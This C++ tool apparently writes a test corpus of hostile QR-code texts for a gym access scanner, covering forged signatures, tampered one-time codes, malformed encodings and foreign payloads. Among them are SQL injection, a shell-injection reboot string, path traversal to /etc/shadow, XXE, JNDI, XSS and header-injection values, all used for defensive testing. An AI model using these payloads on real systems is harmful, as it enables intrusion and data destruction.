// Writes tests/corpus/codes: texts that somebody may hold to the camera, each in a file that is
// named for the answer it must get. Only needed when a vector is added:
//   build/asan/bin/make_hostile_codes tests/corpus/codes

#include <filesystem>
#include <format>
#include <fstream>
#include <iostream>
#include <map>
#include <string>
#include <vector>

#include "domain/base45.h"
#include "tests/support/test_gym.h"

namespace fitmate::tests {
namespace {

namespace gym = test_gym;
using domain::Bytes;
using domain::Capsule;
using domain::CredentialKind;
using namespace std::chrono_literals;
using namespace std::string_literals;
using namespace std::string_view_literals;

using Codes = std::map<std::string, std::string>;

Bytes bytes_of(const std::string& text) {
  return *domain::from_base45(text.substr(4, 129));
}

std::string text_of(const Bytes& bytes) {
  return "FM1:" + domain::to_base45(bytes);
}

// Signed as the context says, whatever the bytes are.
std::string signed_text(Bytes bytes, std::string_view context = "FitMate/qr-capsule/v1\0"sv) {
  Bytes message(domain::as_bytes(context).begin(), domain::as_bytes(context).end());
  message.insert(message.end(), bytes.begin(), bytes.begin() + 22);
  const auto signature = domain::sign(gym::seed_of(gym::good), message);
  std::ranges::copy(signature, bytes.begin() + 22);
  return text_of(bytes);
}

std::string tail() {
  return gym::phone().substr(133);
}

void add_good(Codes& codes) {
  codes["good.card"] = gym::card();
  codes["good.day_pass"] = gym::day_pass();
  codes["good.phone"] = gym::phone();
  auto capsule = gym::capsule(CredentialKind::card);
  capsule.totp_epoch = 15;
  codes["good.card_of_an_unknown_epoch"] = domain::card_text(capsule, gym::seed_of(gym::good));
}

void add_changed_bytes(Codes& codes) {
  const auto good = bytes_of(gym::card());
  for (std::size_t place = 0; place < 22; ++place) {
    auto bytes = good;
    bytes[place] ^= std::byte{1};
    codes[std::format("forged.byte_{:02}_turned", place)] = text_of(bytes);
  }
  for (const std::size_t place : {22U, 37U, 53U, 54U, 70U, 85U}) {
    auto bytes = good;
    bytes[place] ^= std::byte{0x80};
    codes[std::format("forged.signature_byte_{}_turned", place)] = text_of(bytes);
  }
  auto bytes = good;
  std::ranges::fill(bytes.begin() + 22, bytes.end(), std::byte{0});
  codes["forged.signature_of_zeros"] = text_of(bytes);
  bytes[22] = std::byte{1};
  codes["forged.signature_of_the_neutral_element"] = text_of(bytes);
  codes["forged.all_zeros"] = text_of(Bytes(86, std::byte{0}));
  codes["forged.all_ones"] = text_of(Bytes(86, std::byte{0xff}));
}

void add_raised_signature(Codes& codes) {
  // RFC 8032, section 5.1: the order of the group, little-endian, added to S.
  const auto order =
      *domain::from_hex("edd3f55c1a631258d69cf7a2def9de1400000000000000000000000000000010");
  auto bytes = bytes_of(gym::card());
  unsigned carry = 0;
  for (std::size_t i = 0; i < order.size(); ++i) {
    carry += std::to_integer<unsigned>(bytes[54 + i]) + std::to_integer<unsigned>(order[i]);
    bytes[54 + i] = static_cast<std::byte>(carry & 0xffU);
    carry >>= 8U;
  }
  codes["forged.signature_raised_by_the_order"] = text_of(bytes);
}

void add_well_signed(Codes& codes) {
  const auto good = bytes_of(gym::card());
  for (const int version : {0, 2, 3, 9, 15}) {
    auto bytes = good;
    bytes[0] = static_cast<std::byte>(version << 4 | 1);
    codes[std::format("forged.version_{}_signed_well", version)] = signed_text(bytes);
  }
  for (const int kind : {2, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15}) {
    auto bytes = good;
    bytes[0] = static_cast<std::byte>(0x10 | kind);
    codes[std::format("forged.kind_{}_signed_well", kind)] = signed_text(bytes);
    if (kind < 6) {
      codes[std::format("forged.kind_{}_signed_well_with_a_tail", kind)] =
          signed_text(bytes) + tail();
    }
  }
  codes["forged.context_missing"] = signed_text(good, "");
  codes["forged.context_without_its_end"] = signed_text(good, "FitMate/qr-capsule/v1");
  codes["forged.context_of_version_2"] = signed_text(good, "FitMate/qr-capsule/v2\0"sv);
  codes["forged.context_of_the_trust_list"] = signed_text(good, "FitMate/trust-list/v1\0"sv);
  for (const int other : {0, 0x1233, 0x3412, 0xffff}) {
    auto capsule = gym::capsule(CredentialKind::card);
    capsule.gym = {static_cast<std::uint16_t>(other)};
    codes[std::format("forged.gym_{}", other)] =
        domain::card_text(capsule, gym::seed_of(gym::good));
  }
}

void add_issuers(Codes& codes) {
  const std::map<gym::Issuer, std::string> issuers = {{gym::revoked, "revoked"},
                                                      {gym::ended, "ended"},
                                                      {gym::not_begun, "not_begun"},
                                                      {gym::unknown, "unknown"}};
  for (const auto& [issuer, name] : issuers) {
    auto capsule = gym::capsule(CredentialKind::card);
    capsule.issuer = issuer;
    codes["forged.issuer_" + name] = domain::card_text(capsule, gym::seed_of(issuer));
    codes["forged.issuer_" + name + "_signed_by_the_good_one"] =
        domain::card_text(capsule, gym::seed_of(gym::good));
    codes["forged.signed_by_the_" + name + "_issuer"] =
        domain::card_text(gym::capsule(CredentialKind::card), gym::seed_of(issuer));
  }
}

void add_tails(Codes& codes) {
  const auto head = gym::phone().substr(0, 133);
  codes["forged.phone_without_its_tail"] = head;
  codes["forged.card_with_a_tail"] = gym::card() + tail();
  codes["forged.day_pass_with_a_tail"] = gym::day_pass() + tail();
  const auto phone = [](Capsule capsule, std::uint8_t epoch, domain::Instant at) {
    return domain::phone_text(capsule, gym::seed_of(gym::good), gym::totp_key(epoch), at);
  };
  const auto capsule = gym::capsule(CredentialKind::phone);
  const auto digits_at = [&](domain::Instant at) {
    return phone(capsule, gym::current_epoch, at).substr(143);
  };
  codes["forged.digits_of_the_next_step"] =
      head + tail().substr(0, 10) + digits_at(gym::now() + 15s);
  codes["forged.digits_of_the_step_before"] =
      head + tail().substr(0, 10) + digits_at(gym::now() - 15s);
  auto other = capsule;
  other.credential.value++;
  codes["forged.digits_of_another_credential"] =
      head + phone(other, gym::current_epoch, gym::now()).substr(133);
  other = capsule;
  other.generation++;
  codes["forged.digits_of_another_generation"] =
      head + phone(other, gym::current_epoch, gym::now()).substr(133);
  codes["forged.digits_of_the_last_epoch"] =
      head + phone(capsule, gym::last_epoch, gym::now()).substr(133);
  const std::map<std::string, std::string> tails = {
      {"zeros", "000000000000000000"},
      {"nines", "999999999999999999"},
      {"letters", "ABCDEFGHIJKLMNOPQR"},
      {"spaces", "                  "},
      {"plus", "+780308000" + tail().substr(10)},
      {"minus", "-780308000" + tail().substr(10)},
      {"blank_first", " 780308000" + tail().substr(10)},
      {"point", "178030800." + tail().substr(10)},
      {"exponent", "1E+0000009" + tail().substr(10)},
      {"hexadecimal", "0X6A1D5AA0" + tail().substr(10)},
      {"digits_and_a_blank", tail().substr(0, 10) + " " + tail().substr(11)},
      {"its_halves_and_more", tail().substr(9) + tail().substr(0, 9)},
      {"digits_first", tail().substr(10) + tail().substr(0, 10)}};
  for (const auto& [name, text] : tails) codes["forged.tail_of_" + name] = head + text;
}

void add_unknown_epochs(Codes& codes) {
  for (int epoch = 0; epoch < 16; ++epoch) {
    if (epoch == gym::last_epoch || epoch == gym::current_epoch) continue;
    auto capsule = gym::capsule(CredentialKind::phone);
    capsule.totp_epoch = static_cast<std::uint8_t>(epoch);
    const auto key = gym::totp_key(capsule.totp_epoch);
    codes[std::format("code_too_new.epoch_{:02}", epoch)] =
        domain::phone_text(capsule, gym::seed_of(gym::good), key, gym::now());
    if (epoch < 4) {
      codes[std::format("forged.epoch_{:02}_signed_by_nobody", epoch)] =
          domain::phone_text(capsule, gym::seed_of(gym::unknown), key, gym::now());
    }
  }
}

void add_bad_base45(Codes& codes) {
  for (const std::size_t place : {4U, 67U, 130U}) {
    auto text = gym::card();
    codes[std::format("forged.group_above_65535_at_{}", place)] = text.replace(place, 3, ":::");
    codes[std::format("forged.group_65536_at_{}", place)] = text.replace(place, 3, "GGW");
    text[place] = 'a';
    codes[std::format("not_ours.lower_case_at_{}", place)] = text;
    text[place] = '\0';
    codes[std::format("not_ours.nul_at_{}", place)] = text;
    text[place] = '\xff';
    codes[std::format("not_ours.byte_255_at_{}", place)] = text;
    text[place] = '\n';
    codes[std::format("not_ours.line_break_at_{}", place)] = text;
  }
  const std::map<std::string, char> characters = {
      {"a", 'A'}, {"zero", '0'}, {"blank", ' '}, {"percent", '%'}, {"colon", ':'}};
  for (const auto& [name, character] : characters) {
    codes["forged.card_of_" + name] = "FM1:" + std::string(129, character);
    codes["forged.phone_of_" + name] = "FM1:" + std::string(147, character);
  }
}

void add_bent_lengths(Codes& codes) {
  const auto card = gym::card();
  const auto phone = gym::phone();
  codes["not_ours.empty"] = "";
  codes["not_ours.prefix_alone"] = "FM1:";
  codes["not_ours.card_cut_by_one"] = card.substr(0, 132);
  codes["not_ours.card_cut_in_half"] = card.substr(0, 66);
  codes["not_ours.card_without_its_first"] = card.substr(1);
  codes["not_ours.card_longer_by_one"] = card + "0";
  codes["not_ours.card_longer_by_17"] = card + tail().substr(1);
  codes["not_ours.card_and_a_line_break"] = card + "\n";
  codes["not_ours.card_and_a_blank"] = card + " ";
  codes["not_ours.card_and_a_nul"] = card + '\0';
  codes["not_ours.blank_and_a_card"] = " " + card;
  codes["not_ours.bom_and_a_card"] = "\xef\xbb\xbf" + card;
  codes["not_ours.card_doubled"] = card + card;
  codes["not_ours.card_tripled"] = card + card + card;
  codes["not_ours.card_and_phone"] = card + phone;
  codes["not_ours.phone_cut_by_one"] = phone.substr(0, 150);
  codes["not_ours.phone_longer_by_one"] = phone + "0";
  codes["not_ours.phone_doubled"] = phone + phone;
  codes["not_ours.phone_with_two_tails"] = phone + tail();
  codes["not_ours.card_without_prefix"] = card.substr(4);
  codes["not_ours.card_with_two_prefixes"] = "FM1:" + card;
  codes["not_ours.longest_alphanumeric_code"] = "FM1:" + std::string(4292, 'A');
  codes["not_ours.longest_numeric_code"] = std::string(7089, '7');
  codes["not_ours.far_too_long"] = "FM1:" + std::string(20000, '0');
}

void add_bent_prefixes(Codes& codes) {
  const auto card = gym::card();
  const auto with = [&](std::string_view prefix) { return std::string{prefix} + card.substr(4); };
  codes["not_ours.prefix_in_lower_case"] = with("fm1:");
  codes["not_ours.prefix_of_version_0"] = with("FM0:");
  codes["not_ours.prefix_of_version_2"] = with("FM2:");
  codes["not_ours.prefix_of_an_enrolment"] = with("FE1:");
  codes["not_ours.prefix_of_a_health_pass"] = with("HC1:");
  codes["not_ours.prefix_without_colon"] = with("FM1 ");
  codes["not_ours.prefix_with_letter_l"] = with("FML:");
  codes["not_ours.prefix_backwards"] = with("1MF:");
  codes["not_ours.prefix_in_full_width"] = with("ＦＭ１：");
  codes["not_ours.prefix_in_cyrillic"] = with("FМ1:");
  std::string lower = card;
  for (auto& character : lower) {
    if (character >= 'A' && character <= 'Z') character = static_cast<char>(character + 32);
  }
  codes["not_ours.card_in_lower_case"] = lower;
  const auto bytes = bytes_of(card);
  codes["not_ours.card_in_hexadecimal"] = "FM1:" + domain::to_hex(bytes);
  codes["not_ours.card_in_base64"] = "FM1:" + domain::to_base64url(bytes);
  codes["not_ours.card_as_bytes"] =
      "FM1:" + std::string(reinterpret_cast<const char*>(bytes.data()), bytes.size());
}

// Of others, or meant for something behind the reader.
const std::map<std::string, std::string>& foreign_texts() {
  static const std::map<std::string, std::string> texts = {
      {"enrolment", "FE1:https://gym.example:8000#7K3M9-QX2PA-B8RTW-4HZNE-0C6DJ-V"},
      {"enrolment_of_a_stranger", "FE1:http://203.0.113.9/#AAAAA"},
      {"enrolment_without_code", "FE1:https://gym.example#"},
      {"typed_code", "1A2B3C4 12345678"},
      {"typed_code_alone", "1A2B3C4"},
      {"eight_digits", "12345678"},
      {"number_of_a_person", "42"},
      {"uuid", "01890a5d-ac96-774b-bcce-b302099a8057"},
      {"sql_always_true", "' OR '1'='1"},
      {"sql_comment", "admin'--"},
      {"sql_drop", "'; DROP TABLE users; --"},
      {"sql_union", "FM1:' UNION SELECT password_hash FROM users --"},
      {"sql_stacked", "1; DELETE FROM attendance"},
      {"sql_quote", "'"},
      {"sql_double_quote", "\""},
      {"sql_hex", "0x27204f5220313d31"},
      {"sql_sleep", "1 AND (SELECT pg_sleep(10))"},
      {"sql_copy", "'; COPY users TO PROGRAM 'sh' --"},
      {"sql_attach", "'; ATTACH DATABASE '/tmp/x' AS x; --"},
      {"sql_dollar_quote", "$$; DROP TABLE users; $$"},
      {"url", "https://example.com/"},
      {"url_in_capitals", "HTTPS://EXAMPLE.COM/FM1:"},
      {"url_with_password", "https://user:pass@example.com/"},
      {"url_of_loopback", "http://127.0.0.1:8000/api/admin/settings"},
      {"url_of_metadata", "http://169.254.169.254/latest/meta-data/"},
      {"url_of_file", "file:///etc/passwd"},
      {"url_of_data", "data:text/html,<script>alert(1)</script>"},
      {"url_of_script", "javascript:alert(document.cookie)"},
      {"url_of_a_store", "market://details?id=com.example.app"},
      {"url_of_ftp", "ftp://example.com/x"},
      {"url_with_our_prefix", "https://example.com/?code=FM1:ABC"},
      {"wifi", "WIFI:T:WPA;S:gym;P:secret;;"},
      {"vcard", "BEGIN:VCARD\nVERSION:3.0\nN:Doe;Jane\nEND:VCARD"},
      {"calendar", "BEGIN:VEVENT\nSUMMARY:Class\nDTSTART:20260601T100000Z\nEND:VEVENT"},
      {"mail", "mailto:desk@example.com?subject=hello"},
      {"telephone", "tel:+911234567890"},
      {"message", "SMSTO:+911234567890:hello"},
      {"place", "geo:12.97,77.59"},
      {"payment", "upi://pay?pa=gym@example&am=500"},
      {"coin", "bitcoin:1BoatSLRHtKNngkdXEeobR76b53LETtpyT?amount=1"},
      {"otpauth", "otpauth://totp/gym:me?secret=JBSWY3DPEHPK3PXP&issuer=gym"},
      {"boarding_pass", "M1DOE/JANE            EABC123 BLRDELAI 0506 152Y012A0025 100"},
      {"goods", "]C1010401234567890110ABC123"},
      {"goods_number", "4006381333931"},
      {"json", R"({"user_id":1,"admin":true})"},
      {"json_deep", std::string(3000, '[')},
      {"xml_entity", R"(<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>)"},
      {"html", "<img src=x onerror=alert(1)>"},
      {"token", "Bearer eyJhbGciOiJub25lIn0.eyJyb2xlIjoiQURNSU4ifQ."},
      {"format_string", "%s%s%s%n%n%n%x"},
      {"format_of_std", "{}{0}{:>1000000000}"},
      {"shell", "$(reboot)`reboot`;reboot|reboot&"},
      {"path", "../../../../etc/shadow"},
      {"path_with_nul", "/etc/passwd\0.png"s},
      {"lookup", "${jndi:ldap://example.com/a}"},
      {"template", "{{7*7}}"},
      {"formula", "=HYPERLINK(\"http://example.com\")"},
      {"header", "x\r\nSet-Cookie: a=b\r\n\r\n"},
      {"log_line", "x\n2026-06-01 10:00:00 admitted member 1"},
      {"terminal", "\x1b[2J\x1b[31mopen\x1b]0;x\x07"},
      {"control_bytes", "\x01\x02\x03\x04\x05\x06\x07\x08"},
      {"nul", "\0"s},
      {"nuls", std::string(133, '\0')},
      {"bytes_255", std::string(151, '\xff')},
      {"broken_utf8", "\xc3\x28\xa0\xa1\xe2\x28\xa1"},
      {"overlong_utf8", "\xc0\xaf\xe0\x80\xaf"},
      {"surrogate_utf8", "\xed\xa0\x80"},
      {"right_to_left", "\u202eFM1:\u202c"},
      {"zero_width", "F\u200bM\u200b1\u200b:"},
      {"emoji", "🏋️🏋️🏋️"},
      {"devanagari", "जिम का दरवाज़ा"},
      {"combining", "Z\u0335\u0321a\u0335\u0321l\u0335\u0321g\u0335\u0321o\u0335\u0321"},
      {"blanks", std::string(133, ' ')},
      {"tabs", "\t\t\t\t"},
      {"line_break", "\n"},
      {"digits_of_a_card_s_length", std::string(133, '0')},
      {"digits_of_a_phone_s_length", std::string(151, '0')},
  };
  return texts;
}

Codes hostile_codes() {
  Codes codes;
  for (const auto add :
       {add_good, add_changed_bytes, add_raised_signature, add_well_signed, add_issuers, add_tails,
        add_unknown_epochs, add_bad_base45, add_bent_lengths, add_bent_prefixes}) {
    add(codes);
  }
  for (const auto& [name, text] : foreign_texts()) codes["not_ours." + name] = text;
  return codes;
}

}  // namespace
}  // namespace fitmate::tests

int main(int count, char** arguments) {
  if (count != 2) {
    std::cerr << "usage: make_hostile_codes FOLDER\n";
    return 2;
  }
  const std::filesystem::path folder{arguments[1]};
  std::filesystem::create_directories(folder);
  for (const auto& [name, text] : fitmate::tests::hostile_codes()) {
    std::ofstream file{folder / (name + ".txt"), std::ios::binary};
    file << text;
    if (!file.flush()) {
      std::cerr << "cannot write to " << folder << "\n";
      return 1;
    }
  }
  return 0;
}
